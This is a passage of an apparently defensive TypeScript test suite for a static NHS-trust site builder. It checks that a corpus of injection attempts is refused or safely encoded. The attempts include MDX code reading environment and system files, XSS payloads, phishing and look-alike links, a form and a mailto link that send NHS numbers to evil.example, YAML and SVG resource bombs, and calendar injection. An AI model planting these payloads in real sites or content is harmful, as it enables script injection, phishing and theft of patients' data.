/**
 * The injection corpus: attempts to run code at build time, publish script on a trust's site,
 * send readers elsewhere or publish files from outside the trust's folder. Each is a small
 * change to a copy of the Harbourside sample trust, and each must be refused:
 *
 * - by the content check, with the file, the rule and a fix;
 * - by the build's own Markdown pipeline (the plugin in astro.config.mjs), for every attempt in a
 *   page, so the build refuses it even when the check is skipped;
 * - by the real build command over the whole corpus at once: exit 1, every case reported as
 *   content, never "a fault in the site builder", and no attempt's code ever runs;
 * - by a real Astro build with the content check left out entirely (Markdown and MDX).
 */
import { execFile } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { fromHtml } from 'hast-util-from-html';
import type { Nodes } from 'hast';
import ICAL from 'ical.js';
import { markdownToHtml, markdownToMdast, mdxToJs } from 'satteri';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkContent } from '../../src/checks/check-content.ts';
import { splitFrontMatter } from '../../src/reader/source-text.ts';
import type { Problem } from '../../src/problems/problem.ts';
import { REFUSED_CONTENT_MARKER, refuseUnsafeContent } from '../../src/markdown/refuse-unsafe-content.ts';
import { eventCalendar, type CalendarOwner } from '../../src/site/event-calendar.ts';
import { hostHeaderFiles } from '../../src/hosting/security-headers.ts';
import { eventData, jsonLdText } from '../../src/site/structured-data.ts';
import { trustEvents, type EngagementEvent } from '../../src/site/trust-events.ts';
import { defaultLanguage, wordsFor } from '../../src/words/index.ts';
import { markdownReport } from '../../scripts/check/markdown-report.ts';
import { indexHtml } from '../../scripts/editor/editor-site.ts';
import { nginxConfig } from '../../scripts/hosting/nginx-config.ts';
import { repoRoot, runBuild } from '../support/built-sites.ts';
import { pathOf, type LinkTarget } from '../../src/routes/link-target.ts';

interface Case {
  name: string;
  /** The page or file changed, inside the trust folder. */
  file: string;
  rule: string;
  /** The change, made to a copy of Harbourside. */
  breaks: (dir: string) => void;
  /** Refused by the check only: a link to a file that is not there harms no one if the check is skipped. */
  checkOnly?: true;
}

const work = mkdtempSync(path.join(tmpdir(), 'strategy-injection-'));
/** A file the corpus's code tries to write: if it ever exists, content ran code. */
const canary = path.join(work, 'code-ran');

const edit = (file: string, from: string | RegExp, to: string) => (dir: string) => {
  const target = path.join(dir, file);
  const before = readFileSync(target, 'utf8');
  const after = before.replace(from, to);
  if (after === before) throw new Error(`The case did not change ${file}`);
  writeFileSync(target, after);
};
/** Adds a paragraph to the MDX home page. */
const mdx = (text: string) => edit('index.mdx', 'Our strategy explains', `${text}\n\nOur strategy explains`);
/** Adds a paragraph to a Markdown page. */
const md = (text: string) => edit('vision.md', 'Our vision describes', `${text}\n\nOur vision describes`);
const put = (file: string, content: string | Buffer) => (dir: string) => {
  mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
  writeFileSync(path.join(dir, file), content);
};

/** The start of a PNG file: its signature and a header chunk declaring the size (no picture follows). */
function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const chunk = Buffer.concat([Buffer.from([0, 0, 0, 13]), Buffer.from('IHDR'), header, Buffer.alloc(4)]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk]);
}

const cases: Case[] = [
  // Code in MDX: expressions, at build time
  { name: 'environment read', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('Home is {process.env.HOME}.') },
  {
    name: 'file system read outside the repository',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: mdx('{process.getBuiltinModule("node:fs").readFileSync("/etc/hostname", "utf8")}'),
  },
  {
    name: 'file system write',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}`),
  },
  { name: 'process exit', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('{process.exit(3)}') },
  { name: 'eval', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('{eval("globalThis.process.exit(5)")}') },
  {
    name: 'constructor.constructor',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: mdx('{[].constructor.constructor("return process")().exit(4)}'),
  },
  { name: 'import', file: 'index.mdx', rule: 'mdx-import', breaks: mdx("import fs from 'node:fs'") },
  { name: 'export', file: 'index.mdx', rule: 'mdx-import', breaks: mdx('export const secrets = process.env') },
  {
    name: 'expression in a component setting',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title={process.env.HOME}>'),
  },
  {
    name: 'javascript: built from pieces',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title={"java" + "script:alert(1)"}>'),
  },
  {
    name: 'spread attributes',
    file: 'index.mdx',
    rule: 'mdx-expression',
    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout {...globalThis.process}>'),
  },
  {
    name: 'set:html',
    file: 'index.mdx',
    rule: 'mdx-attribute',
    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title="Hi" set:html="<script>alert(1)</script>">'),
  },
  { name: 'HTML link in MDX', file: 'index.mdx', rule: 'unknown-component', breaks: mdx('<a href="javascript:alert(1)">Click</a>') },
  { name: 'svg with a slash in MDX', file: 'index.mdx', rule: 'mdx-syntax', breaks: mdx('<svg/onload="alert(1)"></svg>') },

  // Links in Markdown
  { name: 'javascript: written with entities', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Click](&#106;avascript:alert(1))') },
  { name: 'reference link', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Click][here]\n\n[here]: javascript:alert(1)') },
  { name: 'autolink', file: 'vision.md', rule: 'unsafe-link', breaks: md('<javascript:alert(1)>') },
  {
    name: 'data: link',
    file: 'vision.md',
    rule: 'unsafe-link',
    breaks: md('[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  },
  { name: 'vbscript: link', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Open](vbscript:msgbox(1))') },
  { name: 'data: picture', file: 'vision.md', rule: 'unsafe-link', breaks: md('![A chart](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)') },

  // Links whose words or characters say something other than where they lead
  {
    name: 'link words showing one address, leading to another',
    file: 'vision.md',
    rule: 'misleading-link',
    breaks: md('Read more at [www.nhs.uk](https://nhs-uk.evil.example/login).'),
  },
  {
    name: 'reference link words showing one address, leading to another',
    file: 'vision.md',
    rule: 'misleading-link',
    breaks: md('See [https://harbourside.example/][site].\n\n[site]: https://evil.example/'),
  },
  {
    name: 'look-alike domain',
    file: 'vision.md',
    rule: 'lookalike-domain',
    breaks: md('Visit [the NHS website](https://www.nh\u0455.uk/).'),
  },
  {
    name: 'email link that copies the message elsewhere',
    file: 'vision.md',
    rule: 'mailto-settings',
    breaks: md('[Email us](mailto:strategy@harbourside.example?bcc=collector@evil.example&body=My%20NHS%20number%20is)'),
  },
  {
    name: 'heading turned round by a direction override',
    file: 'vision.md',
    rule: 'hidden-characters',
    breaks: md('## Download the plan \u202Efdp.exe'),
  },
  {
    name: 'HTML link whose words show one address, leading to another',
    file: 'vision.md',
    rule: 'misleading-link',
    breaks: md('Sign in at <a href="https://nhs-uk.evil.example/login">https://www.nhs.uk/</a> to book.'),
  },
  {
    name: 'HTML link whose address words are Markdown between two pieces of HTML',
    file: 'vision.md',
    rule: 'misleading-link',
    breaks: md('<a href="https://evil.example/">\n\n**www.nhs.uk**\n\n</a>'),
  },
  {
    name: 'HTML link to a look-alike domain',
    file: 'vision.md',
    rule: 'lookalike-domain',
    breaks: md('<p>Visit <a href="https://www.nh\u0455.uk/">the NHS website</a>.</p>'),
  },
  {
    name: 'file link that climbs out of the folder once decoded',
    file: 'vision.md',
    rule: 'missing-file',
    checkOnly: true,
    breaks: md('[Our report](../files/..%2f..%2f..%2f..%2f..%2fetc%2fhostname)'),
  },
  {
    name: 'malformed percent escape in a picture path',
    file: 'vision.md',
    rule: 'picture-path',
    checkOnly: true,
    breaks: md('![A chart](files/pictures/%E0%A4%A.png)'),
  },

  // Raw HTML in Markdown
  {
    name: 'javascript: with a tab, in HTML',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<a href="jav&#x09;ascript:alert(1)">Click</a>'),
  },
  { name: 'img onerror', file: 'vision.md', rule: 'unsafe-html', breaks: md('<img src="x" onerror="alert(1)">') },
  { name: 'svg onload', file: 'vision.md', rule: 'unsafe-html', breaks: md('<svg onload="alert(1)"></svg>') },
  {
    name: 'math with a javascript: link',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
  },
  { name: 'base', file: 'vision.md', rule: 'unsafe-html', breaks: md('<base href="https://evil.example/">') },
  {
    name: 'meta refresh',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  },
  {
    name: 'form asking for an NHS number',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<form action="https://evil.example/"><label>NHS number <input name="nhs"></label><button>Send</button></form>'),
  },
  { name: 'iframe srcdoc', file: 'vision.md', rule: 'unsafe-html', breaks: md('<iframe srcdoc="<script>alert(1)</script>"></iframe>') },
  {
    name: 'style sheet from another host',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<link rel="stylesheet" href="https://evil.example/x.css">'),
  },
  {
    name: 'style attribute covering the page',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md('<a href="https://evil.example/" style="position:fixed;inset:0">Win a prize</a>'),
  },
  { name: 'script', file: 'vision.md', rule: 'unsafe-html', breaks: md('<script>alert(1)</script>') },

  // Raw HTML whose pieces are harmless alone but not together: an open quote in one piece swallows the
  // Markdown after it, and a title in the next piece closes it, leaving a live redirect between them.
  {
    name: 'two pieces of HTML that make a redirect together',
    file: 'vision.md',
    rule: 'unsafe-html',
    breaks: md(
      `<p title="\n\nWe listened to everyone.\n\n<p title='"><meta http-equiv=refresh content="0;url=https://evil.example/">'>Read more</p>`,
    ),
  },

  // Pages shaped to stall the check or the build
  {
    name: 'quotes nested thousands deep',
    file: 'vision.md',
    rule: 'nesting-depth',
    // The parser itself is what would stall, before any plugin runs: the check refuses the page first.
    checkOnly: true,
    breaks: md('> '.repeat(5000)),
  },
  { name: 'thousands of pieces of HTML', file: 'vision.md', rule: 'unsafe-html', breaks: md('<b>x</b>\n\n'.repeat(1000)) },

  // The trust's address: the base path of every link and part of every host configuration
  {
    name: 'address whose folder starts with a second slash (every menu link to another host)',
    file: 'trust.yaml',
    rule: 'invalid-field',
    breaks: edit('trust.yaml', /^url: .*$/m, 'url: https://harbourside.example//evil.example/'),
  },
  {
    name: 'address with replacement patterns and nginx syntax',
    file: 'trust.yaml',
    rule: 'invalid-field',
    breaks: edit('trust.yaml', /^url: .*$/m, 'url: "https://harbourside.example/$&;return/"'),
  },
  {
    name: 'address inside another trust',
    file: 'trust.yaml',
    rule: 'address-clash',
    breaks: edit('trust.yaml', /^url: .*$/m, 'url: https://case-01.example/nested/'),
  },

  // Settings that would make the check or the build run unbounded
  {
    name: 'YAML alias bomb',
    file: 'trust.yaml',
    rule: 'yaml-syntax',
    breaks: (dir) => {
      const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
      for (let level = 1; level < 9; level++) {
        const previous = String.fromCharCode(96 + level);
        const name = String.fromCharCode(97 + level);
        levels.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(',')}]`);
      }
      writeFileSync(path.join(dir, 'trust.yaml'), `${readFileSync(path.join(dir, 'trust.yaml'), 'utf8')}${levels.join('\n')}\n`);
    },
  },
  {
    name: 'very long value',
    file: 'trust.yaml',
    rule: 'invalid-field',
    breaks: edit('trust.yaml', /^shortName: .*$/m, `shortName: ${'Harbour '.repeat(40_000)}`),
  },

  // Files
  {
    name: 'SVG with script',
    file: 'files/pictures/evil.svg',
    rule: 'unsafe-svg',
    breaks: put(
      'files/pictures/evil.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>',
    ),
  },
  {
    name: 'SVG with foreignObject and outside references',
    file: 'files/pictures/outside.svg',
    rule: 'unsafe-svg',
    breaks: put(
      'files/pictures/outside.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject><image href="https://evil.example/x.png"/></svg>',
    ),
  },
  {
    name: 'PNG that declares an enormous bitmap',
    file: 'files/pictures/huge.png',
    rule: 'picture-size',
    breaks: put('files/pictures/huge.png', pngHeader(100_000, 100_000)),
  },
  {
    name: 'SVG with a blur that takes minutes to draw',
    file: 'files/pictures/blur.svg',
    rule: 'unsafe-svg',
    breaks: put(
      'files/pictures/blur.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><filter id="f"><feGaussianBlur stdDeviation="100000"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>',
    ),
  },
  {
    name: 'SVG whose copies double at every level',
    file: 'files/pictures/copies.svg',
    rule: 'unsafe-svg',
    breaks: put(
      'files/pictures/copies.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><rect id="l0" width="1" height="1"/>${Array.from(
        { length: 30 },
        (_, level) => `<g id="l${level + 1}">${'<use href="#l' + level + '"/>'.repeat(10)}</g>`,
      ).join('')}</defs><use href="#l30"/></svg>`,
    ),
  },
  {
    name: 'list longer than any page shows',
    file: 'trust.yaml',
    rule: 'invalid-field',
    breaks: edit(
      'trust.yaml',
      '  knownIssues:\n',
      `  knownIssues:\n${Array.from({ length: 101 }, (_, n) => `    - issue: Problem ${n + 1}\n`).join('')}`,
    ),
  },
  {
    name: 'symbolic link out of the repository',
    file: 'files/secret.txt',
    rule: 'file-link',
    breaks: (dir) => symlinkSync('/etc/hostname', path.join(dir, 'files', 'secret.txt')),
  },
  {
    name: 'web page saved as a PDF',
    file: 'files/report.pdf',
    rule: 'file-type',
    breaks: put('files/report.pdf', '<!doctype html><script>alert(1)</script>'),
  },
  {
    name: 'web page in files',
    file: 'files/page.html',
    rule: 'file-type',
    breaks: put('files/page.html', '<!doctype html><script>alert(1)</script>'),
  },
];

const slugOf = (index: number) => `case-${String(index + 1).padStart(2, '0')}`;
const fleet = path.join(work, 'content');
const checked = new Map<string, Problem[]>();

beforeAll(async () => {
  cases.forEach((testCase, index) => {
    const dir = path.join(fleet, slugOf(index));
    cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
    edit('trust.yaml', /^slug: .*$/m, `slug: ${slugOf(index)}`)(dir);
    // Each copy has its own address, as every trust must; a case may then change it.
    edit('trust.yaml', /^url: .*$/m, `url: https://${slugOf(index)}.example/`)(dir);
    testCase.breaks(dir);
  });
  // A whole trust folder that is a link to another trust's content, somewhere outside.
  symlinkSync(path.join(repoRoot, 'content', 'fenmoor'), path.join(fleet, 'linked-trust'));
  const problems = await checkContent({ contentDir: fleet, displayRoot: work });
  cases.forEach((testCase, index) => {
    checked.set(
      testCase.name,
      problems.filter((problem) => problem.file.startsWith(`content/${slugOf(index)}/`)),
    );
  });
});

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('the injection corpus', () => {
  it('has at least 25 attempts', () => {
    expect(cases.length).toBeGreaterThanOrEqual(25);
  });

  it('the check refuses a trust folder that is a link', async () => {
    const problems = await checkContent({ contentDir: fleet, displayRoot: work, trusts: ['linked-trust'] });
    expect(problems).toContainEqual(expect.objectContaining({ file: 'content/linked-trust/', rule: 'file-link', severity: 'error' }));
  });

  it.each(cases.map((testCase, index) => [testCase.name, testCase, index] as const))('the check refuses: %s', (_name, testCase, index) => {
    const file = `content/${slugOf(index)}/${testCase.file}`;
    const problems = checked.get(testCase.name)!;
    const match = problems.find((problem) => problem.file === file && problem.rule === testCase.rule);
    expect(match, `expected ${testCase.rule} in ${file}; got ${JSON.stringify(problems, null, 1)}`).toBeDefined();
    expect(match!.severity).toBe('error');
    expect(match!.message).toMatch(/remove|write|rename|delete|replace|use|save|shorten|link to|export|add the|correct/i);
    if (testCase.file.endsWith('.md') || testCase.file.endsWith('.mdx')) expect(match!.line).toBeGreaterThan(5);
  });

  const pageCases = cases
    .map((testCase, index) => [testCase.name, testCase, index] as const)
    .filter(([, testCase]) => /\.mdx?$/.test(testCase.file) && !testCase.checkOnly);

  it.each(pageCases)("the build's Markdown pipeline refuses, with no check: %s", (_name, testCase, index) => {
    const absolute = path.join(fleet, slugOf(index), testCase.file);
    const split = splitFrontMatter(readFileSync(absolute, 'utf8'));
    const body = split.kind === 'split' ? split.body : '';
    const options = { mdastPlugins: [refuseUnsafeContent(fleet)], fileURL: pathToFileURL(absolute) };
    const compile = () => (absolute.endsWith('.mdx') ? mdxToJs(body, options) : markdownToHtml(body, options));
    expect(compile).toThrow(/.+/);
    try {
      compile();
    } catch (error) {
      // An MDX syntax error is refused by the parser itself; everything else by our rules, in the check's words.
      if (!/mdx-jsx|Unexpected/.test(String(error)))
        expect(String(error)).toContain(`${REFUSED_CONTENT_MARKER} content/${slugOf(index)}/${testCase.file}`);
    }
  });

  it('the build command refuses every attempt as content, runs none of their code and publishes nothing', async () => {
    const out = path.join(work, 'dist');
    const started = performance.now();
    const build = await runBuild(['--content', fleet, '--out', out]);
    const output = `${build.stdout}\n${build.stderr}`;
    console.log(`Build over ${cases.length} corpus trusts: ${((performance.now() - started) / 1000).toFixed(1)} s`);
    expect(build.code, output).toBe(1);
    expect(output).not.toContain('fault in the site builder');
    expect(output).not.toMatch(/at .*\.(ts|js):\d+/);
    cases.forEach((testCase, index) => {
      expect(output, testCase.name).toContain(`content/${slugOf(index)}/${testCase.file}`);
    });
    expect(existsSync(canary)).toBe(false);
    expect(existsSync(path.join(out, slugOf(0)))).toBe(false);
  });

  it('an Astro build with the content check left out still refuses MDX code and raw HTML, and none of the code runs', async () => {
    const script = path.join(repoRoot, 'tests', 'support', 'render-without-check.ts');
    /** Builds a copy of a sample trust with one unsafe change and no content check: the build stops at the first page its own plugin refuses. */
    const buildUnchecked = async (name: string, change: (dir: string) => void) => {
      const content = path.join(work, `unchecked-${name}`, 'content');
      const dir = path.join(content, 'harbourside');
      cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
      change(dir);
      try {
        const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, `unchecked-${name}-out`)], {
          cwd: repoRoot,
        });
        return { code: 0, output: result.stdout };
      } catch (error) {
        const failed = error as { code: number; stdout: string; stderr: string };
        return { code: failed.code, output: `${failed.stdout}\n${failed.stderr}` };
      }
    };
    const code = await buildUnchecked(
      'mdx',
      mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`),
    );
    expect(code.code, code.output).toBe(1);
    expect(code.output).toMatch(/content\/harbourside\/index\.mdx:\d+(:\d+)?\n\s+error \(mdx-expression\)/);
    const html = await buildUnchecked('html', md('<form action="https://evil.example/"><input name="nhs"></form>'));
    expect(html.code, html.output).toBe(1);
    expect(html.output).toMatch(/content\/harbourside\/vision\.md:\d+(:\d+)?\n\s+error \(unsafe-html\)/);
    for (const { output } of [code, html]) {
      expect(output).not.toContain('fault in the site builder');
      expect(output).not.toContain('built');
    }
    expect(existsSync(canary)).toBe(false);
  });
});

/**
 * Values that are fine as text but reach formats other than HTML: they are not refused, they are
 * encoded for each format, and each output read back with its own parser holds nothing else.
 * (tests/security/output-encoders.test.ts feeds the same encoders 500 random values per field.)
 */
describe('the injection corpus: values encoded for every other format', () => {
  const day = new Date('2027-01-20T00:00:00Z');
  const calendarFor = (name: string, event: Partial<EngagementEvent>) => {
    const owner: CalendarOwner = {
      slug: 'harbourside',
      origin: 'https://harbourside.example',
      settings: { name, shortName: 'Harbourside', contact: { email: 'strategy@harbourside.example' } },
      href: (target) => `/our-strategy/${pathOf(target)}`,
      words: wordsFor(defaultLanguage),
    };
    const events = [{ title: 'Drop-in', date: day, format: 'in-person', start: '18:00', ...event } as EngagementEvent];
    const [item] = trustEvents(
      [{ pagePath: 'have-your-say/', entry: { data: { type: 'engagement', title: 'Have your say', events } as never } }],
      new Date('2026-01-01T00:00:00Z'),
    );
    return new ICAL.Component(ICAL.parse(eventCalendar(owner, item!, day)));
  };

  it('iCalendar: a lone carriage return in an event title adds no attachment', () => {
    const calendar = calendarFor('Harbourside Hospitals', { title: 'Drop-in\rATTACH:https://evil.example/invite.exe' });
    const [event] = calendar.getAllSubcomponents('vevent');
    expect(event!.getAllProperties('attach')).toEqual([]);
    expect(event!.getFirstPropertyValue('summary')).toBe('Drop-in\nATTACH:https://evil.example/invite.exe');
  });

  it("iCalendar: line breaks and quotes in the trust's name add no second event", () => {
    const calendar = calendarFor('Harbourside"\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Clinic closed', {});
    expect(calendar.getAllSubcomponents('vevent')).toHaveLength(1);
  });

  it('the pull request report: a link, a picture and a mention in a message stay as words', () => {
    const report = markdownReport(
      [
        {
          file: 'content/x/goals.md',
          line: 9,
          rule: 'unsafe-link',
          severity: 'error',
          message: 'Fix [this](https://evil.example/) ![](https://evil.example/t.png) @octocat <img src=x>',
        },
      ],
      [],
    );
    const tree = markdownToMdast(report, { features: { gfm: true } });
    const kinds = new Set<string>();
    const stack: Array<{ type: string; children?: unknown[] }> = [tree as never];
    while (stack.length > 0) {
      const node = stack.pop()!;
      kinds.add(node.type);
      stack.push(...((node.children ?? []) as never[]));
    }
    expect([...kinds].filter((kind) => ['link', 'image', 'html'].includes(kind))).toEqual([]);
    expect(report).toContain('@octocat');
  });

  it("the editor's page: a trust name that closes the title runs no script", () => {
    const page = fromHtml(indexHtml('Harbourside</title><script>alert(document.cookie)</script>'));
    const scripts: string[] = [];
    const stack = [page as unknown as { type: string; tagName?: string; properties?: { src?: string }; children?: unknown[] }];
    while (stack.length > 0) {
      const node = stack.pop()!;
      if (node.tagName === 'script') scripts.push(String(node.properties?.src ?? 'inline'));
      stack.push(...((node.children ?? []) as never[]));
    }
    expect(scripts.sort()).toEqual(['decap-cms.js', 'editor-extensions.js']);
  });

  it('JSON-LD: a place that closes the script stays inside the data', () => {
    const [item] = trustEvents(
      [
        {
          pagePath: 'have-your-say/',
          entry: {
            data: {
              type: 'engagement',
              title: 'x',
              events: [{ title: 'Drop-in', date: day, format: 'in-person', place: '</script><script>alert(1)</script>' }],
            } as never,
          },
        },
      ],
      new Date('2026-01-01T00:00:00Z'),
    );
    const owner = {
      origin: 'https://harbourside.example',
      settings: { name: 'Harbourside', url: 'https://harbourside.example/', contact: { email: 'a@harbourside.example' } },
      href: (target: LinkTarget) => `/${pathOf(target)}`,
    };
    const text = jsonLdText([eventData(owner, item!)]);
    expect(text).not.toMatch(/<\/?script/i);
    expect(JSON.parse(text).location.name).toBe('</script><script>alert(1)</script>');
  });

  it('host configurations: an address the settings check refuses is never written into one', () => {
    expect(() =>
      nginxConfig({ slug: 'harbourside', url: 'https://harbourside.example/a;return 301 https:/', docRoot: '/var/www' }),
    ).toThrow(/url/);
    expect(() => hostHeaderFiles('/a b/')).toThrow(/base path/);
  });
});

/**
 * HTML the check reads as harmless must be published as the check read it. Each attempt below is
 * HTML the allow-list approves as a browser parses it (parse5), but that another parser reads
 * differently, or is shaped to upset the easy read layout. The build parses raw HTML with the
 * allow-list's own parser and never writes a page out to read it back with another, so each is
 * published exactly as approved: nothing beyond the allow-list, nothing past the page's own
 * content, and no fault in the site builder. All sit in one copy of Harbourside, one per page.
 */
describe('the injection corpus: published as the check read it', () => {
  const NBSP = '\u00a0';
  /** Live markup another parser found in approved HTML, before the fix: a button to another host and more. */
  const payload = `<a class=nhsuk-button href=https://evil.example/ id=main-content download onclick=alert(1)>Donate</a><img src=data:image/png;base64,AAAA alt=x><p hidden>`;
  interface Published {
    name: string;
    /** An easy read page (before its first picture) or a standard page. */
    file: string;
    text: string;
    /** Published pages that show it. */
    pages: string[];
    /** Words the published page still shows. */
    shows?: string;
    /** In a trust of its own: before the fix it stopped the whole build, which would hide the others. */
    layout?: true;
  }
  const easyRead = (name: string, file: string, text: string, shows?: string): Published => {
    const page = `easy-read/${file.replace(/\.md$/, '')}/`;
    return { name, file: `easy-read/${file}`, text, pages: [page, 'easy-read/all/'], ...(shows ? { shows } : {}) };
  };
  const attempts: Published[] = [
    easyRead('"<!-->" is an empty comment to a browser, not an open one', 'vision.md', `<!--><p title="-->${payload}">Our plan.</p>`),
    easyRead('"--!>" ends a comment for a browser', 'mission.md', `<!-- note --!><p title="-->${payload}">Our plan.</p>`),
    easyRead(
      'a no-break space inside an unquoted address is part of the address',
      'goals.md',
      `<p><a href=https://example.org/${NBSP}class=nhsuk-button${NBSP}download${NBSP}id=main-content${NBSP}hidden>Find out more</a></p>`,
    ),
    easyRead(
      'other spaces that are not HTML spaces inside an unquoted address',
      'values.md',
      `<p><a href=https://example.org/\u3000class=nhsuk-button\u2028download\u3000onclick=alert(1)>Find out more</a></p>`,
    ),
    easyRead(
      'a space before the end of a closing tag',
      'delivery.md',
      `<p title="</p ><a class=nhsuk-button href=https://evil.example/>">Our plan.</p >`,
    ),
    // The easy read layout once took these for pictures, and the build stopped as a fault in the site builder.
    { ...easyRead('a paragraph of only a no-break space', 'priorities.md', '&nbsp;', 'We will open a new place for tests'), layout: true },
    { ...easyRead('an empty paragraph written as HTML', 'how-we-listened.md', '<p></p>'), layout: true },
    { ...easyRead('a paragraph of only a line break', 'contact.md', '<p><br></p>'), layout: true },
    {
      name: 'a link left open runs on no further than the page it is on',
      file: 'vision.md',
      text: 'Read <a href="https://example.org/">our partners',
      pages: ['vision/'],
    },
    { name: 'a box left open', file: 'values.md', text: '<details><summary>More</summary>\n\nInside the box.', pages: ['values/'] },
  ];

  /** Everything in a page's own content (.prose-content, .easy-read) that the allow-list and the layout do not make. */
  function beyondAllowList(html: string): string[] {
    const allowed: Record<string, string[]> = {
      // dir: the product's own, keeping a phone number, email or web address left to right in right-to-left text.
      a: ['href', 'title', 'dir'],
      img: ['src', 'alt', 'width', 'height', 'loading'],
      div: ['className'],
      p: ['title'],
      details: ['open'],
      h2: ['id'],
      h3: ['id'],
      h4: ['id'],
    };
    const plain = ['summary', 'strong', 'em', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'br', 'span', 'b', 'i'];
    const found: string[] = [];
    const stack: Array<{ node: Nodes; inContent: boolean }> = [{ node: fromHtml(html), inContent: false }];
    let mainIds = 0;
    while (stack.length > 0) {
      const { node, inContent } = stack.pop()!;
      let inside = inContent;
      if (node.type === 'element') {
        const classes = (node.properties.className as string[] | undefined) ?? [];
        if (node.properties.id === 'main-content') mainIds += 1;
        if (inContent) {
          const names = Object.keys(node.properties);
          const extra = names.filter((name) => !(allowed[node.tagName] ?? []).includes(name));
          if (!(node.tagName in allowed) && !plain.includes(node.tagName)) found.push(`<${node.tagName}>`);
          if (extra.length > 0) found.push(`<${node.tagName} ${extra.join(' ')}>`);
          if (node.tagName === 'div' && !classes.every((name) => /^(er-|nhsuk-inset-text$)/.test(name)))
            found.push(`<div class=${classes}>`);
          const address = String(node.properties.href ?? node.properties.src ?? '');
          if (node.properties.dir !== undefined && node.properties.dir !== 'ltr')
            found.push(`<${node.tagName} dir=${String(node.properties.dir)}>`);
          if (/^\s*(data|javascript):/i.test(address) || /evil\.example/.test(address)) found.push(`<${node.tagName} ${address}>`);
        } else if (node.tagName === 'a' && /example\.org|evil\.example/.test(String(node.properties.href))) {
          found.push(`a link from the content outside it: ${String(node.properties.href)}`);
        }
        inside = inContent || classes.includes('prose-content') || classes.includes('easy-read');
      }
      if ('children' in node) for (const child of node.children) stack.push({ node: child, inContent: inside });
    }
    if (mainIds !== 1) found.push(`${mainIds} elements with id="main-content"`);
    return found;
  }

  const fleets = ['differential', 'layout'] as const;
  const builds = new Map<string, Awaited<ReturnType<typeof runBuild>>>();
  let problems: Problem[] = [];
  const outOf = (fleet: string) => path.join(work, `published-${fleet}-out`);

  beforeAll(async () => {
    for (const fleet of fleets) {
      const dir = path.join(work, `published-${fleet}`, 'harbourside');
      cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
      for (const attempt of attempts.filter((each) => (each.layout ? 'layout' : 'differential') === fleet)) {
        if (attempt.file.startsWith('easy-read/')) edit(attempt.file, /^!\[/m, `${attempt.text}\n\n![`)(dir);
        else edit(attempt.file, /^(Our|We|This) /m, `${attempt.text}\n\n$&`)(dir);
      }
      const found = await checkContent({ contentDir: path.dirname(dir), displayRoot: work });
      problems.push(...found.filter((problem) => problem.severity === 'error'));
    }
    // One after the other: builds share the project's scratch folders.
    for (const fleet of fleets)
      builds.set(fleet, await runBuild(['--content', path.join(work, `published-${fleet}`), '--out', outOf(fleet)]));
  });

  it('the check approves every attempt: each is allowed HTML as a browser reads it', () => {
    expect(problems).toEqual([]);
  });

  it.each(fleets)('the build publishes them all, with no fault in the site builder (%s)', (fleet) => {
    const build = builds.get(fleet)!;
    const output = `${build.stdout}\n${build.stderr}`;
    expect(output).not.toContain('fault in the site builder');
    expect(build.code, output).toBe(0);
  });

  it.each(attempts.map((attempt) => [attempt.name, attempt] as const))('published as approved: %s', (_name, attempt) => {
    for (const page of attempt.pages) {
